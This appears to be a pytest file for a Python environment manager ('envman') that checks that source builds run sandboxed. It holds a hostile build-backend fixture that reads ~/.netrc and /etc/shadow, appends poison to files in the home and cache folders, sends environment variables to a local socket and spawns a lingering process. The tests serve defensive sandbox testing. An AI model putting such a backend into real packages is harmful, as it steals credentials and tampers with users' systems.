"""Packages without a wheel, built by `envman build` from their sources: what a build's code reaches."""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
from pathlib import Path

import pytest

from tests.conftest import Deployment, in_python
from tests.sdists import make_sdist
from tests.waiting import until

HOSTILE = """
import json, os, socket, subprocess, sys
def attempt(work):
    try:
        return bool(work()) or True
    except OSError:
        return False
def read(path):
    with open(path, "rb") as stream:
        return stream.read()
def spoil(folder):
    done = []
    for parent, folders, names in os.walk(folder):
        for path in [parent + "/new"] + [parent + "/" + name for name in names]:
            if "/.sources/" in path:  # its own
                continue
            try:
                with open(path, "ab") as stream:
                    stream.write(b"POISON" + b"ED")
                done.append(path)
            except OSError:
                pass
    if not done:
        raise OSError(folder)
def call():
    socket.create_connection(("127.0.0.1", {port}), 5).sendall("\\n".join(os.environ.values()).encode())
def stay():
    subprocess.Popen([sys.executable, "-c", "import signal; signal.pause()", {mark!r}], start_new_session=True)
def files():
    done = {{
        "home": attempt(lambda: spoil({home!r})),
        "netrc": attempt(lambda: read({home!r} + "/.netrc")),
        "cache": attempt(lambda: spoil({cache!r})),
        "root": attempt(lambda: spoil({root!r})),
        "shadow": attempt(lambda: read("/etc/shadow")),
        "network": attempt(call),
        "build environment": attempt(lambda: spoil(sys.prefix)),
        "stay": attempt(stay),
    }}
    del done["stay"]  # it can be started, and must not stay
    said = {{"done": sorted(key for key, value in done.items() if value), "variables": sorted(os.environ), "uid": os.getuid()}}
    return {{"hostile/__init__.py": "SAID = " + repr(json.dumps(said)) + "\\n"}}
"""
SECRETS = {
    "UV_INDEX_TEAM_PASSWORD": "hunter2",
    "AWS_SECRET_ACCESS_KEY": "hunter2",
    "CI_JOB_TOKEN": "hunter2",
    "AIRFLOW__CORE__FERNET_KEY": "hunter2",
}
LEGACY = 'import hook\nhook.now()\nfrom setuptools import setup\nsetup(name="hostile", version="1.0")\n'


def lock(deployment: Deployment, name: str, packages: list[Path], more: str = "") -> None:
    """Lock sources; their metadata is static (PEP 643), so nothing of theirs runs before the build."""
    deployment.spec(name, [f"{one.name.partition('-')[0]}==1.0" for one in packages], more)
    deployment.ok("lock", name)


def poisoned(*folders: Path) -> list[Path]:
    files = (path for folder in folders for path in folder.rglob("*") if path.is_file())
    return [path for path in files if b"POISONED" in path.read_bytes()]


def built(deployment: Deployment, module: str) -> str:
    code = in_python(f"import {module}; print({module}.SAID)")
    return deployment.ok("exec", "--environment", "env_a", "--", *code).stdout


def test_a_hostile_source_reaches_nothing(deployment: Deployment, sdists: Path, tmp_path: Path) -> None:
    home, cache = Path(deployment.environment["HOME"]), Path(deployment.environment["UV_CACHE_DIR"])
    (home / ".netrc").write_text("machine example.org login me password hunter2\n")
    deployment.spec("env_b", ["frame<2"])
    deployment.ok("lock", "env_b")
    deployment.ok("build", "env_b")
    mark = f"stays-{tmp_path.name}-{os.getpid()}"
    with socket.create_server(("127.0.0.1", 0)) as server:
        where = {"home": str(home), "cache": str(cache), "root": str(deployment.root), "mark": mark}
        source = make_sdist(sdists, "hostile", backend=HOSTILE.format(port=server.getsockname()[1], **where))
        lock(deployment, "env_a", [source])
        server.setblocking(False)
        said = deployment.ok("build", "env_a", variables=SECRETS).stderr
        with pytest.raises(BlockingIOError):
            server.accept()
    assert "hostile 1.0 from source, in a sandbox" in said
    told = json.loads(built(deployment, "hostile"))
    assert told["done"] == []
    assert set(told["variables"]).isdisjoint(SECRETS)
    assert told["uid"] != 0 or os.getuid() != 0
    assert poisoned(home, cache, deployment.root) == []
    deployment.ok("verify")
    assert (
        mark not in subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True, check=True).stdout
    )
    assert not (deployment.root / "env_a" / ".sources").exists()
    copy = (deployment.root / "env_a/envman.lock").read_text()
    assert copy == (deployment.folder / "environments/env_a.lock").read_text()


def started(deployment: Deployment, sdists: Path) -> subprocess.Popen[str]:
    """A build that has come to a source's backend, which never ends by itself."""
    code = "import signal\ndef files():\n    open('started', 'w').close()\n    signal.pause()\n"
    source = make_sdist(sdists, "endless", backend=code)
    lock(deployment, "env_a", [source])
    process = deployment.start("build", "env_a")
    folders = deployment.root / ".gen"
    until(lambda: any(folders.glob("*/.sources/guests/build-*/source/started")), "the build has started")
    return process


def hooks_of(folder: Path) -> list[str]:
    """Processes with something of a folder in their arguments."""
    found = []
    for process in Path("/proc").glob("[0-9]*"):
        try:
            words = (process / "cmdline").read_bytes().decode(errors="replace")
        except OSError:
            continue
        if f"{folder}/.gen/" in words:
            found.append(words)
    return found


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
def test_an_interrupted_build_from_source_leaves_nothing(
    deployment: Deployment, sdists: Path, tmp_path: Path, number: signal.Signals
) -> None:
    process = started(deployment, sdists)
    process.send_signal(number)
    process.communicate(timeout=60)
    assert process.returncode == 128 + number
    assert deployment.generations() == set()
    assert not (deployment.root / "env_a").exists()
    until(lambda: hooks_of(deployment.root) == [], "its processes have ended")
    assert list((tmp_path / "envman-cache/wheels").glob("*")) == []


def test_a_killed_build_from_source_leaves_nothing_that_counts(
    deployment: Deployment, sdists: Path, tmp_path: Path
) -> None:
    process = started(deployment, sdists)
    process.kill()
    process.communicate(timeout=60)
    until(lambda: hooks_of(deployment.root) == [], "what runs in bubblewrap ends with envman")
    deployment.spec("env_b", ["frame<2"])
    deployment.ok("lock", "env_b")
    deployment.ok("build", "env_b")
    assert deployment.generations() == {deployment.current("env_b")}
    assert list((tmp_path / "envman-cache/wheels").glob("*")) == []


def test_what_was_built_from_source_is_locked_and_verified_as_ever(
    deployment: Deployment, sdists: Path
) -> None:
    """Beside wheels, with a requirement; for a second environment it is not built again."""
    source = make_sdist(sdists, "sourced", requires=["grid<2"])
    deployment.spec("env_a", ["sourced", "frame<2"], '[checks]\nimports = ["sourced", "frame"]\n')
    deployment.spec("env_b", ["sourced"])
    deployment.ok("lock")
    first = deployment.ok("build", "env_a")
    assert "sourced 1.0 from source, in a sandbox" in first.stderr
    source.unlink()
    second = deployment.ok("build", "env_b")
    assert "from source" not in second.stderr
    deployment.ok("verify")
    code = in_python("import sourced; print(sourced.__version__)")
    assert deployment.ok("exec", "--environment", "env_b", "--", *code).stdout == "1.0\n"
    shutil.rmtree(deployment.environment["ENVMAN_CACHE_DIR"])
    assert deployment.run("build", "env_b", "--rebuild").exit_code == 6


def test_how_packages_are_built_is_part_of_a_generation(deployment: Deployment, sdists: Path) -> None:
    code = "def files():\n    return {'flagged/__init__.py': 'SAID = ' + repr(os.environ.get('CFLAGS'))}\n"
    make_sdist(sdists, "flagged", backend=code)
    names = set()
    for more, said in (
        ("", "None\n"),
        ('[source-builds]\nvariables = { CFLAGS = "-O1" }\n', "-O1\n"),
        ('[source-builds]\nvariables = { CFLAGS = "-O1" }\nnetwork = ["Flagged"]\n', "-O1\n"),
    ):
        deployment.spec("env_a", ["flagged"], more)
        deployment.ok("lock")
        deployment.ok("build")
        assert built(deployment, "flagged") == said
        names.add(deployment.current("env_a"))
    assert len(names) == 3


def test_where_nothing_may_be_built_it_is_refused(deployment: Deployment, sdists: Path) -> None:
    make_sdist(sdists, "sourced")
    deployment.spec("env_a", ["sourced"])
    deployment.ok("lock")
    deployment.write("environments/env_a.toml", "")
    deployment.spec("env_a", ["sourced"], "no-build = true\n")
    result = deployment.run("lock")
    assert result.exit_code == 5
    assert "building from source is disabled" in result.stderr or "no usable wheels" in result.stderr


def test_a_file_that_is_not_the_locked_one_is_not_built(deployment: Deployment, sdists: Path) -> None:
    make_sdist(sdists, "sourced")
    deployment.spec("env_a", ["sourced"])
    deployment.ok("lock")
    make_sdist(sdists, "sourced", backend="# another one\n")
    result = deployment.run("build")
    assert result.exit_code == 6
    assert "from source" not in result.stderr
    assert deployment.generations() == set()


def test_a_wheelhouse_holds_the_source_and_what_its_build_asks_for(
    deployment: Deployment, sdists: Path, wheelhouse: Path, tmp_path: Path
) -> None:
    """Nothing of it runs, neither as it is downloaded nor later with the builder's rights."""
    ran = tmp_path / "ran"
    text = '[build-system]\nrequires = ["tool"]\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    code = f"try:\n    open({str(ran)!r}, 'w').close()\nexcept OSError:\n    pass\n"
    make_sdist(sdists, "sourced", backend=code, files={"pyproject.toml": text})
    deployment.spec("env_a", ["sourced", "grid<2"])
    del deployment.environment["UV_FIND_LINKS"]
    deployment.write(
        "uv.toml", f"no-index = true\nfind-links = {json.dumps([str(sdists), str(wheelhouse)])}\n"
    )
    deployment.ok("lock")
    deployment.ok("wheelhouse", "env_a", "wheels")
    names = {path.name for path in (deployment.folder / "wheels").iterdir()}
    assert names == {"sourced-1.0.tar.gz", "tool-1.0-py3-none-any.whl", "grid-1.1-py3-none-any.whl"}
    assert not ran.exists()
    (deployment.folder / "uv.toml").unlink()
    assert "in a sandbox" in deployment.ok("build", "--wheelhouse", "wheels").stderr
    assert not ran.exists()
